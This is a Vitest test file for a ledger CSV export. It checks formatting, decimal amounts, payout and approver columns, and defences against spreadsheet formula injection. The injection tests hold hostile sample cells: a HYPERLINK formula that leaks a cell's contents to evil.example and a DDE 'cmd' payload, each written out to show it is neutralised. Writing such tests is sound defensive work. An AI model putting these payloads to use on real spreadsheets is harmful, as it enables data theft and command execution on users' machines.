import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS, neutraliseCell, writeLedgerCsv, type ExportedPayout, type PayoutLookup, type PersonNames } from '../../src/ledger/export-csv.js';
import type { LedgerEntry } from '../../src/ledger/types.js';

let sequence = 0;
function entry(fields: Partial<LedgerEntry> = {}): LedgerEntry {
  sequence += 1;
  return {
    key: `k${sequence}`,
    reference: `TXN-${sequence}`,
    type: 'PAYMENT',
    amountMinor: 1000,
    currency: 'USD',
    description: 'Payment',
    date: '2026-10-05T09:30:00.000Z',
    status: 'Completed',
    firstSeenAt: new Date(),
    late: false,
    ...fields,
  };
}

async function* from<T>(items: Iterable<T>): AsyncIterable<T> {
  for (const item of items) yield item;
}

describe('the ledger CSV export', () => {
  let dir: string;
  let count = 0;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'export-csv-test-'));
  });
  afterAll(async () => rm(dir, { recursive: true, force: true }));

  const write = async (entries: LedgerEntry[], payouts?: PayoutLookup, options = {}) => {
    const path = join(dir, `export-${(count += 1)}.csv`);
    const result = await writeLedgerCsv(from(entries), path, payouts, options);
    const raw = await readFile(path, 'utf8');
    const records = parse<Record<string, string>>(raw, { bom: true, columns: true });
    return { result, raw, records };
  };

  it('writes a header row in English, then one row per entry in the order given, with CRLF line ends and a byte order mark', async () => {
    const { raw, records, result } = await write([entry({ reference: 'A-1' }), entry({ reference: 'B-2', amountMinor: -250 })]);
    expect(
      raw.startsWith(
        '\uFEFFreference,date,type,status,direction,amount,currency,description,payout_request_id,requested_by,approved_by,requested_by_name,approved_by_names\r\n',
      ),
    ).toBe(true);
    expect(raw.endsWith('\r\n')).toBe(true);
    expect(result.rows).toBe(2);
    expect(records).toEqual([
      {
        reference: 'A-1',
        date: '2026-10-05T09:30:00.000Z',
        type: 'PAYMENT',
        status: 'Completed',
        direction: 'in',
        amount: '10.00',
        currency: 'USD',
        description: 'Payment',
        payout_request_id: '',
        requested_by: '',
        approved_by: '',
        requested_by_name: '',
        approved_by_names: '',
      },
      {
        reference: 'B-2',
        date: '2026-10-05T09:30:00.000Z',
        type: 'PAYMENT',
        status: 'Completed',
        direction: 'out',
        amount: '-2.50',
        currency: 'USD',
        description: 'Payment',
        payout_request_id: '',
        requested_by: '',
        approved_by: '',
        requested_by_name: '',
        approved_by_names: '',
      },
    ]);
    expect(Object.keys(records[0]!)).toEqual([...EXPORT_COLUMNS]);
  });

  it('round-trips descriptions with commas, quotes, line breaks and Slack markup exactly', async () => {
    const descriptions = [
      'Fuel, Kinshasa depot, week 41',
      'Supplier "Mama Kitoko" invoice',
      'line one\nline two',
      'windows\r\nline break',
      'lonely\rcarriage return',
      '<!channel> please look <https://evil.example|here>',
      'a "quoted, comma" and\nall of it',
      'accents: échéance à régler, 5 000 FC',
    ];
    const { records } = await write(descriptions.map((description) => entry({ description })));
    expect(records.map((record) => record.description)).toEqual(descriptions);
  });

  it('neutralises text cells a spreadsheet would run as a formula, and they still read back exactly behind the quote mark', async () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Click for refund")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,1)',
      '\tindented=1',
      '\rcarriage=1',
    ];
    const { records, raw } = await write(hostile.map((description) => entry({ description, reference: description })));
    expect(records.map((record) => record.description)).toEqual(hostile.map((text) => `'${text}`));
    expect(records.map((record) => record.reference)).toEqual(hostile.map((text) => `'${text}`));
    expect(raw).not.toMatch(/(^|,)"?[=+@]/m);
  });

  it('leaves ordinary text alone, even with a formula sign inside it', () => {
    expect(neutraliseCell('INV-42 = paid')).toBe('INV-42 = paid');
    expect(neutraliseCell('')).toBe('');
    expect(neutraliseCell('-5')).toBe("'-5");
  });

  it('writes amounts as exact plain decimals for currencies with 0, 2 and 3 decimals, negatives included, never quoted or prefixed', async () => {
    const amounts: Array<[number, string, string]> = [
      [0, 'USD', '0.00'],
      [1, 'USD', '0.01'],
      [-5, 'EUR', '-0.05'],
      [123_456_789_012, 'CDF', '1234567890.12'],
      [-9_007_199_254_740_991, 'USD', '-90071992547409.91'],
      [-1500, 'JPY', '-1500'],
      [250_000, 'XAF', '250000'],
      [1_234_567, 'KWD', '1234.567'],
      [-1, 'BHD', '-0.001'],
    ];
    const { records, raw } = await write(amounts.map(([amountMinor, currency]) => entry({ amountMinor, currency })));
    expect(records.map((record) => [record.amount, record.currency])).toEqual(amounts.map(([, currency, plain]) => [plain, currency]));
    const lines = raw
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .slice(1, -1);
    expect(lines.map((line) => line.split(',')[5])).toEqual(amounts.map(([, , plain]) => plain));
    expect(records.map((record) => record.direction)).toEqual(['', 'in', 'out', 'in', 'out', 'out', 'in', 'in', 'out']);
  });

  it('writes the same file, byte for byte, whether a batch is turned into text in one piece or in many', async () => {
    const entries = Array.from({ length: 1234 }, (_, n) =>
      entry({ reference: `R-${n}`, amountMinor: n % 3 === 0 ? -n : n, description: n % 5 === 0 ? 'Line\nbreak, "quoted"' : `=Payment ${n}` }),
    );
    const payouts: PayoutLookup = {
      byTransactionReferences: async (references) =>
        new Map(
          references
            .filter((reference) => reference.endsWith('7'))
            .map((reference) => [reference, { requestId: `PO-${reference}`, requestedBy: 'U0REQUESTER', approvedBy: ['U0APPROVER'] }]),
        ),
    };
    const { raw: rowByRow } = await write(entries, payouts, { batchSize: 1 });
    const { raw: inBatches, result } = await write(entries, payouts);
    expect(inBatches).toBe(rowByRow);
    expect(result.rows).toBe(1234);
  });

  it('adds the request, requester and approvers of the payouts this app sent, looked up in batches', async () => {
    const asked: string[][] = [];
    const payouts: PayoutLookup = {
      byTransactionReferences: async (references) => {
        asked.push([...references]);
        const found = new Map<string, ExportedPayout>();
        if (references.includes('PAY-2')) found.set('PAY-2', { requestId: 'PO-ABC', requestedBy: 'U0REQUESTER', approvedBy: ['U0APPROVER', 'U0APPROVER2'] });
        if (references.includes('PAY-5')) found.set('PAY-5', { requestId: 'PO-DEF', requestedBy: 'U0REQUESTER', approvedBy: ['U0APPROVER'] });
        return found;
      },
    };
    const entries = [1, 2, 3, 4, 5].map((n) => entry({ reference: `PAY-${n}` }));
    const { records } = await write(entries, payouts, { batchSize: 2 });
    expect(asked).toEqual([['PAY-1', 'PAY-2'], ['PAY-3', 'PAY-4'], ['PAY-5']]);
    expect(records.map((record) => [record.payout_request_id, record.requested_by, record.approved_by])).toEqual([
      ['', '', ''],
      ['PO-ABC', 'U0REQUESTER', 'U0APPROVER U0APPROVER2'],
      ['', '', ''],
      ['', '', ''],
      ['PO-DEF', 'U0REQUESTER', 'U0APPROVER'],
    ]);
  });

  it("names the requester and the approvers beside their IDs, asking for each batch's people once, as text a spreadsheet never runs", async () => {
    const payouts: PayoutLookup = {
      byTransactionReferences: async (references) =>
        new Map(
          references.flatMap((reference): Array<[string, ExportedPayout]> =>
            reference === 'PAY-1'
              ? [[reference, { requestId: 'PO-ABC', requestedBy: 'U0RITA', approvedBy: ['U0ABEL', 'U0EVIL'] }]]
              : reference === 'PAY-2'
                ? [[reference, { requestId: 'PO-DEF', requestedBy: 'U0RITA', approvedBy: ['U0ABEL', 'U0GONE'] }]]
                : [],
          ),
        ),
    };
    const asked: string[][] = [];
    const names: PersonNames = {
      namesOf: async (userIds) => {
        asked.push([...userIds]);
        const known: Record<string, string> = { U0RITA: 'Rita Mbuyi', U0ABEL: 'Abel, Treasury', U0EVIL: '=HYPERLINK("https://evil.example")' };
        return new Map(userIds.flatMap((id): Array<[string, string]> => (known[id] ? [[id, known[id]]] : [])));
      },
    };
    const { records, raw } = await write([entry({ reference: 'PAY-1' }), entry({ reference: 'PAY-2' }), entry({ reference: 'OTHER' })], payouts, { names });
    expect(asked).toEqual([['U0RITA', 'U0ABEL', 'U0EVIL', 'U0GONE']]);
    expect(records.map((record) => [record.requested_by, record.approved_by, record.requested_by_name, record.approved_by_names])).toEqual([
      ['U0RITA', 'U0ABEL U0EVIL', 'Rita Mbuyi', `Abel, Treasury; '=HYPERLINK("https://evil.example")`],
      // Someone Slack gives no name for (a deleted account, Slack down) is written by their ID, so the list stays in step with approved_by.
      ['U0RITA', 'U0ABEL U0GONE', 'Rita Mbuyi', 'Abel, Treasury; U0GONE'],
      ['', '', '', ''],
    ]);
    expect(raw).not.toMatch(/(^|,)"?=/m);
  });

  it('reports progress every so many rows while it streams', async () => {
    const seen: number[] = [];
    async function* many(): AsyncIterable<LedgerEntry> {
      for (let n = 0; n < 25_000; n++) yield entry({ reference: `M-${n}` });
    }
    const path = join(dir, 'many.csv');
    const result = await writeLedgerCsv(many(), path, undefined, { progressEvery: 10_000, onProgress: (rows) => void seen.push(rows) });
    expect(result.rows).toBe(25_000);
    expect(seen).toEqual([10_000, 20_000]);
    const lines = (await readFile(path, 'utf8')).split('\r\n');
    expect(lines).toHaveLength(25_002);
    expect(lines.at(-2)).toContain('M-24999');
  });

  it('writes only the header for no entries', async () => {
    const { records, result } = await write([]);
    expect(result.rows).toBe(0);
    expect(records).toEqual([]);
  });

  it('never overwrites a file that is already there', async () => {
    const path = join(dir, 'taken.csv');
    await writeFile(path, 'keep me');
    await expect(writeLedgerCsv(from([entry()]), path, undefined)).rejects.toThrow(/EEXIST/);
    expect(await readFile(path, 'utf8')).toBe('keep me');
  });
});
